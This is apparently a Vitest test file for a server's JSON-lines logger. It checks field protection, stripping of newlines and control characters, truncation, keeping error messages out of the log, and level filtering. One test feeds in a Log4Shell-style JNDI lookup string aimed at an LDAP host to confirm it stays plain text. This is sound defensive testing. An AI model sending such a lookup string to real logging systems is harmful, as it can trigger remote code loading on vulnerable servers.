/** The host's log: one JSON object per line, whatever the facts contain. */
import { afterEach, expect, test, vi } from 'vitest';
import { errorFacts, logFrom } from '../../src/host/log.ts';

afterEach(() => vi.restoreAllMocks());

type Facts = Parameters<ReturnType<typeof logFrom>>[1];

function logged(facts: Facts) {
  const write = vi.spyOn(process.stdout, 'write').mockReturnValue(true);
  logFrom()('fault', facts);
  const text = String(write.mock.calls[0]?.[0]);
  expect(text.match(/\n/g)).toHaveLength(1);
  return JSON.parse(text) as Readonly<Record<string, string>>;
}

test('a fact cannot replace the time or the event', () => {
  const line = logged({ at: 'at Lender.answer', event: 'request', line: '7' });
  expect(line).toMatchObject({ event: 'fault', line: '7' });
  expect(Date.parse(line.at ?? '')).not.toBeNaN();
});

test('a text of several lines becomes one, without control characters, and is cut', () => {
  const { text = '' } = logged({ text: `a\r\n  b\u2028c\u001b[31m\u0000${'x'.repeat(1000)}` });
  expect(text).toMatch(/^a \| b \| c\[31mx+$/);
  expect(text.length).toBeLessThanOrEqual(510);
});

test('a lookup of a logging library stays text, and a megabyte is cut', () => {
  const lookup = '${jndi:ldap://198.51.100.7/a}';
  expect(logged({ text: lookup }).text).toBe(lookup);
  vi.restoreAllMocks();
  expect(logged({ text: 'x'.repeat(1024 * 1024) }).text?.length).toBeLessThanOrEqual(510);
});

test('the name and the line of code of an error are logged, not its message', () => {
  const facts = errorFacts(new TypeError('Ana\nMoreno'));
  expect(facts.name).toBe('TypeError');
  expect(facts.line).toMatch(/^at .*log\.test\.ts/);
  expect(JSON.stringify(facts)).not.toMatch(/Ana|Moreno/);
});

test.each<[string, Facts, string]>([
  ['release-live', {}, 'info'],
  ['request', { status: 404 }, 'info'],
  ['request', { status: 503 }, 'warn'],
  ['release-refused', {}, 'warn'],
  ['fault', {}, 'error'],
  ['lender-fault', {}, 'error'],
  ['console', { level: 'error' }, 'error'],
  ['console', { level: 'loud' }, 'info'],
])(
  'the event %s with %j has the level %s, and is written from that level on',
  (event, facts, level) => {
    const write = vi.spyOn(process.stdout, 'write').mockReturnValue(true);
    const levels = ['info', 'warn', 'error'];
    for (const least of levels) logFrom(least)(event, facts);
    expect(write).toHaveBeenCalledTimes(levels.indexOf(level) + 1);
    expect(JSON.parse(String(write.mock.calls[0]?.[0]))).toMatchObject({ event, level });
  },
);
